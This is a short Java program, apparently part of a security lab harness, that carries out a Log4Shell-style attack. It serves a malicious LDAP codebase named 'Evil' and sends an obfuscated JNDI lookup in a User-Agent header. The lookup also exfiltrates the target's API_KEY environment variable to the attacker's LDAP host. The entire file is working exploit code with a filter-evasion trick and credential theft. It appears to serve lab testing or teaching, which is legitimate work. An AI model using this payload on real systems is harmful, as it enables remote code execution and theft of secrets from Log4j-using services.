import java.util.Map;
import whorl.lab.attack.Attacker;
import whorl.lab.attack.Ldap;

public class Attack {
  public static void main(String[] args) throws Exception {
    Attacker.serve(Map.of());
    Ldap.serveCodebase("Evil");
    Attacker.get("/log", "User-Agent", "${${::-j}${lower:N}di:" + Ldap.URL + "/${env:API_KEY}}");
    Attacker.done();
  }
}
